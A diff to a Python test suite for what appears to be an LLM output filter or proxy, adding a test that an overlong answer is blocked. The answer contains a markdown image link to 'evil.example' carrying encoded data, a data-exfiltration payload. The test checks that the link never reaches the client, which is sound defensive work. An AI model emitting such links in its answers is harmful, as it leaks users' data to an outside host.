@@ -229,3 +229,14 @@ async def test_no_shape_of_an_answer_carries_a_secret_out(here: House) -> None:
     for name, body in ODD_ANSWERS.items():
         FAULTS["odd"] = answering(body)
         assert not carries((await here.ask(chat("hi", "odd", logprobs=True))).body), name
+
+
+async def test_an_answer_that_outgrows_what_may_be_held_back_is_a_block(here: House) -> None:
+    """An address without end: 400 when whole; on a stream what stood before it, and an error. Never the address."""
+    here.upstream.text = "see ![x](https://evil.example/p?d=" + "Zm9vYmFy" * 1200 + ") bye"
+    for streamed in (False, True):
+        answer = await here.ask(chat("hi", stream=streamed))
+        event = here.event_of(answer)
+        assert b"evil.example" not in answer.body
+        assert b"request_blocked" in answer.body
+        assert (event.decision, event.outcome) == ("block", "blocked")
